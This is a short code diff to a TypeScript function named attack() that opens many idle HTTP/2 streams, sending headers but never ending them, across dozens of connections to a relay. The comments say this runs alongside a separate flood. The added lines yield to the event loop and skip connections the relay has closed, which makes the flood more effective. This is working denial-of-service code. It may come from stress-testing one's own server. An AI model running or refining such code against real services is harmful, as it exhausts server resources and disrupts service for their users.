@@ -106,11 +106,15 @@ async function attack(): Promise<unknown> {
   }
 
   // Idle streams: headers and nothing more, spread over as many connections as we get.
+  // A turn of the event loop every hundred streams lets the flood above keep going and
+  // lets a connection the relay closed be noticed (its remaining streams are not opened).
   let opened = 0;
   const wanted = Number(values.streams);
   for (let c = 0; c < 40 && opened < wanted; c++) {
     const s = connect();
     for (let i = 0; i < Math.ceil(wanted / 40) && opened < wanted; i++) {
+      if (i % 100 === 99) await new Promise((r) => setImmediate(r));
+      if (s.destroyed || s.closed) break;
       try {
         const stream = s.request(headers, { endStream: false });
         stream.on('error', () => undefined);
